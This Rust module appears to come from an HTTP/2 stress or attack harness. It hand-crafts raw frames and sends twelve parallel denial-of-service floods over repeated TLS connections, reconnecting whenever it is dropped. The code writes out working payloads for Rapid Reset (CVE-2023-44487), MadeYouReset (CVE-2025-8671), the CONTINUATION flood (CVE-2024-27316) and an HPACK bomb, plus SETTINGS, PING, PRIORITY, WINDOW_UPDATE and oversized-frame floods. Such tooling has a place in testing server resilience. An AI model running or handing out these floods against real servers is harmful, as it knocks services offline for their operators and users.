//! HTTP/2 as no client speaks it: frames made by hand.

use std::time::Duration;

use tokio::io::AsyncWriteExt as _;

use super::attacker::{Field, MARK, again_and_again, swallow};

/// What a connection begins with, and empty settings.
const BEGINNING: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";
/// `:method: GET`, `:scheme: https`, `:path: /` and `:authority: box`, by the static table and one literal.
const GET: &[u8] = b"\x82\x87\x84\x01\x03box";
/// `:method: POST` and the rest.
const POST: &[u8] = b"\x83\x87\x84\x01\x03box";

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const PRIORITY: u8 = 2;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// Floods, each on connections of its own.
const KINDS: u32 = 12;
/// Connections of each.
const EACH: u32 = 3;
/// Streams, or frames, that are written at a time.
const AT_A_TIME: u32 = 200;

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap().to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// A literal that the other end has to keep in its table: 4,000 bytes under a name of one.
fn literal() -> Vec<u8> {
    // A length of 7 bits that goes on: 127 + 3,873.
    let mut bytes = b"\x40\x01x\x7f\xa1\x1e".to_vec();
    bytes.extend(MARK.bytes().cycle().take(4_000));
    bytes
}

/// What one portion of a flood is, `first` being its first stream.
fn portion(kind: u32, first: u32) -> Vec<u8> {
    let streams = (0..AT_A_TIME).map(|number| first + 2 * number);
    let whole = END_HEADERS | END_STREAM;
    match kind {
        // CVE-2023-44487: opened and reset; and so that the other end has to reset (a stream that depends on itself,
        // a window of more than there is: CVE-2025-8671).
        0 => streams
            .flat_map(|stream| {
                [frame(HEADERS, whole, stream, GET), frame(RST_STREAM, 0, stream, &[0, 0, 0, 8])].concat()
            })
            .collect(),
        1 => streams
            .flat_map(|stream| {
                let update = frame(WINDOW_UPDATE, 0, stream, &0x7fff_ffff_u32.to_be_bytes());
                [frame(HEADERS, END_HEADERS, stream, POST), update].concat()
            })
            .collect(),
        2 => frame(SETTINGS, 0, 0, &[0, 4, 0, 1, 0, 0]).repeat(AT_A_TIME as usize),
        3 => frame(PING, 0, 0, b"12345678").repeat(AT_A_TIME as usize),
        // CVE-2024-27316: a head that goes on in ever more frames; with something in them, and with nothing.
        4 => [frame(HEADERS, 0, first, GET), frame(CONTINUATION, 0, first, &literal()).repeat(40)].concat(),
        5 => [frame(HEADERS, 0, first, GET), frame(CONTINUATION, 0, first, &[]).repeat(4_000)].concat(),
        // An HPACK bomb: one large entry, named 4,000 times.
        6 => {
            let bomb = [GET, &literal(), &[0xbe].repeat(4_000)].concat();
            frame(HEADERS, whole, first, &bomb)
        }
        7 => {
            let empty = frame(DATA, 0, first, &[]).repeat(AT_A_TIME as usize);
            [frame(HEADERS, END_HEADERS, first, POST), empty].concat()
        }
        8 => frame(PRIORITY, 0, first, &[0, 0, 0, 0, 1]).repeat(AT_A_TIME as usize),
        9 => frame(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1]).repeat(AT_A_TIME as usize),
        // Answers that nobody takes: a window of nothing, and question after question.
        10 => {
            let closed = frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0, 0]);
            let asked = streams.flat_map(|stream| frame(HEADERS, whole, stream, GET));
            closed.into_iter().chain(asked).collect()
        }
        // A frame of a kind that nobody knows, as large as may be.
        _ => frame(0xfe, 0xff, first, &[0; 16_384]),
    }
}

/// Every flood at once.
pub(crate) async fn floods(field: Field) {
    again_and_again(KINDS * EACH, move |place| {
        let field = field.clone();
        async move {
            let Ok(stream) = field.tls_http2(field.nth_address(place)).await else { return };
            let (mut reader, mut writer) = tokio::io::split(stream);
            let send = async {
                let mut said = writer.write_all(BEGINNING).await;
                let mut first = 1;
                while said.is_ok() && first < 0x7000_0000 {
                    said = writer.write_all(&portion(place % KINDS, first)).await;
                    field
                        .tally
                        .requests
                        .fetch_add(u64::from(AT_A_TIME), std::sync::atomic::Ordering::Relaxed);
                    first += 2 * AT_A_TIME;
                }
            };
            // Who is told to go away goes, and comes again.
            tokio::select! {
                () = async { tokio::join!(send, std::future::pending::<()>()); } => {}
                () = swallow(&mut reader) => {}
                () = tokio::time::sleep(Duration::from_secs(2)) => {}
            }
        }
    })
    .await;
}
